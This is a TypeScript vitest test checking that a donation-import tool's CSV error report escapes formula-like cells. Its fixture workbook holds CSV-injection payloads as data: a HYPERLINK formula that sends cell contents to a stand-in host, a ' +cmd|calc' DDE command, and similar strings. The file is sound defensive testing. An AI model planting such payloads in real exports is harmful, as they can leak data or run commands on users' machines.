import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { memoryRig } from '../importer.test-util';
import { runImport } from './importRun';

describe('the import error report is formula-safe', () => {
  it('writes inert XLSX text cells that look like formulas as quoted text, numbers as they were', async () => {
    const { gateway, dataDir } = await memoryRig();
    const xlsx = join(dataDir, 'saldırı.xlsx');
    const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: xlsx, useSharedStrings: true });
    const ws = wb.addWorksheet('Liste');
    ws.addRow(['Makbuz No', 'Bağışçı', 'Tutar', 'Tarih']).commit();
    // Text cells (not formulas) in the workbook: inert there, live if written to CSV as they are.
    ws.addRow(['=HYPERLINK("http://x.example/?d="&A1,"aç")', '\u00a0@SUM(A1)', -3, new Date(Date.UTC(2024, 2, 6))]).commit();
    ws.addRow(['\uFF1D1+1', ' +cmd|calc', 'yüz', new Date(Date.UTC(2024, 2, 7))]).commit();
    await wb.commit();

    const out = await runImport(
      { path: xlsx, collection: 'donations', mapping: ['receiptNo', 'donorName', 'amount', 'date'], mode: 'insert' },
      { gateway, dataDir, lang: 'tr', batchRows: 5, retry: { attempts: 1, sleep: async () => undefined }, today: '2025-06-01' },
    );
    expect(out.failed).toBe(2);
    const text = readFileSync(out.reportFile!).subarray(3).toString('utf8');
    const rows = Papa.parse<string[]>(text.trim(), { delimiter: ';' }).data;
    expect(rows[1]!.slice(0, 4)).toEqual([`'=HYPERLINK("http://x.example/?d="&A1,"aç")`, `'\u00a0@SUM(A1)`, '-3', '06.03.2024']);
    expect(rows[2]!.slice(0, 3)).toEqual([`'\uFF1D1+1`, `' +cmd|calc`, 'yüz']);
    // No cell of the file, the error column included, starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+@\uFF1D]/u);
  });
});
